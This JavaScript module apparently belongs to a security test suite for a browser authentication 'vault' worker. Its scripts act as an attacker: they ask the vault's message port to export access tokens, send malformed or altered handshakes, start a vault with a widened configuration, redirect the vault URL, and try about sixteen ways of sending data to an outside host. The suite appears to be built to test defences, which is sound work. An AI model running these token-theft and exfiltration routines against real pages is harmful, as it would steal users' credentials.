// Scripts that speak to the vault themselves: over a port of their own, over the page's, or to a vault that
// they started.
import { loot } from "./attacker.js";
import * as seen from "./ports.js";
import { digest } from "./reads.js";

const { tw } = window;

/** A conversation over one port: what was answered is loot, too. */
class Talk {
  /**
   * @param {string} attack
   * @param {MessagePort} port
   */
  constructor(attack, port) {
    this.attack = attack;
    this.port = port;
    this.heard = [];
    port.addEventListener("message", ({ data, ports }) => {
      this.heard.push(data);
      loot(attack, data);
      // What is asked for on a body's port is the answer itself.
      for (const body of ports) {
        body.addEventListener("message", (event) => loot(attack, event.data));
        body.start();
        body.postMessage(null);
        body.postMessage({ type: "pull" });
      }
    });
    port.start();
  }

  say(message) {
    this.port.postMessage(message);
  }

  /** Waits until the vault has answered a last question, and so all before it. */
  async over(patience = 3000) {
    const id = 4_000_000_000;
    this.say({ type: "exportAccessToken", id });
    return this.until((it) => it.id === id, patience);
  }

  async until(is, patience = 3000) {
    const end = Date.now() + patience;
    while (!this.heard.some(is) && Date.now() < end) await pause(10);
    return this.heard.find(is);
  }
}

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const count = (heard) => {
  const counts = {};
  for (const { type, error } of heard) {
    const word = error ? `${type} ${error.code}` : type;
    counts[word] = (counts[word] ?? 0) + 1;
  }
  return counts;
};

/** Uses the session with the page's own configuration, over a port of its own. */
export async function speakDirectly(attack, url) {
  const talk = new Talk(attack, seen.connect());
  talk.say(seen.hello());
  await talk.until(({ type }) => type === "welcome");
  talk.say({ type: "fetch", id: 1, url, method: "GET", headers: [], options: [] });
  const answer = await talk.until(({ id }) => id === 1, 5000);
  await pause(100);
  return answer?.status ?? answer?.error?.code ?? "silence";
}

/** The same over the page's own port, which a script sees being used. */
export async function speakForThePage(attack, url) {
  const port = seen.ports()[0];
  const heard = [];
  port.addEventListener("message", ({ data }) => {
    heard.push(data);
    loot(attack, data);
  });
  const id = 4_000_000_000;
  port.postMessage({ type: "fetch", id, url, method: "GET", headers: [], options: [] });
  port.postMessage({ type: "exportAccessToken", id: id + 1 });
  const end = Date.now() + 5000;
  while (heard.filter((it) => it.id >= id).length < 2 && Date.now() < end) await pause(10);
  return heard.filter((it) => it.id >= id).map(({ status, error }) => status ?? error?.code);
}

/** Says everything but a hello. */
export async function speakUngreeted(attack, messages) {
  const talk = new Talk(attack, seen.connect());
  for (const message of messages) talk.say(message);
  await pause(300);
  return count(talk.heard);
}

/** Says hellos that differ from the page's. */
export async function greetWrongly(attack, hellos) {
  const outcomes = [];
  for (const changed of hellos) {
    const talk = new Talk(attack, seen.connect());
    const { config, ...rest } = seen.hello();
    const options = { ...JSON.parse(config), ...changed.options };
    talk.say({ ...rest, config: JSON.stringify(options), ...changed.fields });
    await talk.until(() => true);
    talk.say({ type: "exportAccessToken", id: 1 });
    await talk.over(300);
    outcomes.push(talk.heard[0]?.type ?? "silence");
  }
  return outcomes;
}

/** Starts a vault whose configuration allows everything, and asks it. */
export async function startWider(attack, changed, url) {
  const { config, ...rest } = seen.hello();
  const wider = JSON.stringify({ ...JSON.parse(config), ...changed });
  const { url: script, options } = seen.started();
  const name = options.name.replace(/[0-9a-f]{64}$/, await digest(wider));
  const talk = new Talk(attack, open(script, { ...options, name }));
  talk.say({ ...rest, config: wider });
  const welcome = await talk.until(({ type }) => type === "welcome" || type === "refused", 8000);
  talk.say({ type: "fetch", id: 1, url, method: "GET", headers: [], options: [] });
  talk.say({ type: "exportAccessToken", id: 2 });
  talk.say({ type: "userInfo", id: 3 });
  await talk.until(({ id }) => id === 3, 5000);
  const said = talk.heard.filter(({ id }) => id).map(({ error, type }) => error?.code ?? type);
  talk.say({ type: "close" });
  return [welcome?.error?.message ?? welcome?.type, ...said];
}

function open(url, options) {
  if (tw.auth.place === "shared") return new SharedWorker(seen.trusted(url), options).port;
  const worker = new Worker(seen.trusted(url), options);
  const { port1, port2 } = new MessageChannel();
  worker.postMessage(null, [port2]);
  return port1;
}

/** Says all of these over a port of its own with the page's own hello. */
export async function speakMuch(attack, texts, patience = 25_000) {
  const talk = new Talk(attack, seen.connect());
  talk.say(seen.hello());
  await talk.until(({ type }) => type === "welcome");
  for (const [at, text] of texts.entries()) {
    talk.say(JSON.parse(text));
    // A turn for the page itself now and then.
    if (at % 500 === 499) await pause(0);
  }
  // Some of them said that there is no network: then nobody is asked for tokens until there is one.
  talk.say({ type: "online" });
  const isOver = await talk.over(patience);
  talk.say({ type: "close" });
  return isOver ? count(talk.heard) : {};
}

/** A client of the script's own, whose `vaultUrl` is another script. */
export async function redirectVault(attack, vaultUrl) {
  const channel = new BroadcastChannel("attacker's vault");
  channel.onmessage = ({ data }) => loot(attack, data);
  let client;
  try {
    client = tw.sdk.createClient({ ...tw.settings.options, vaultUrl });
  } catch (error) {
    return [error.code];
  }
  const ready = client.ready.then(
    () => "ready",
    (error) => error.code,
  );
  const outcome = await Promise.race([ready, pause(1500)]);
  loot(attack, [client.state, outcome]);
  client.close();
  return [client.state.status, outcome ?? "silence"];
}

/** Every way out of a page, and of the page through its vault. */
export async function sendOut(attack, other, api) {
  const { auth } = tw;
  const to = (/** @type {string} */ way) => `${other}/out/${way}`;
  const element = (name, members) => {
    const made = document.createElement(name);
    try {
      Object.assign(made, members);
      document.body.append(made);
    } catch (error) {
      loot(attack, `${error}`);
    }
    return made;
  };
  const ways = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
    beacon: () => navigator.sendBeacon(to("beacon"), "x"),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", to("xhr"));
      request.send("x");
    },
    socket: () => new WebSocket(to("socket").replace("http", "ws")),
    events: () => new EventSource(to("events")),
    image: () => element("img", { src: to("image") }),
    frame: () => element("iframe", { src: to("frame") }),
    style: () => element("link", { rel: "stylesheet", href: to("style") }),
    prefetch: () => element("link", { rel: "prefetch", href: to("prefetch") }),
    script: () => element("script", { src: to("script") }),
    form: () => element("form", { action: to("form"), method: "post" }).submit(),
    vault: () => auth.fetch(to("vault")),
    unauthorised: () => auth.fetch(to("unauthorised"), { credential: "none" }),
    redirect: () => auth.fetch(`${api}/redirect?to=${encodeURIComponent(to("redirect"))}`),
    keepalive: () => auth.fetch(to("keepalive"), { keepalive: true, method: "POST", body: "x" }),
    returnTo: () => auth.signIn({ returnTo: to("returnTo") }),
  };
  const outcomes = {};
  for (const [way, go] of Object.entries(ways)) {
    try {
      const value = await go();
      outcomes[way] = value instanceof Response ? value.status : "no error";
    } catch (error) {
      outcomes[way] = error.code ?? error.name;
    }
  }
  await pause(300);
  return outcomes;
}
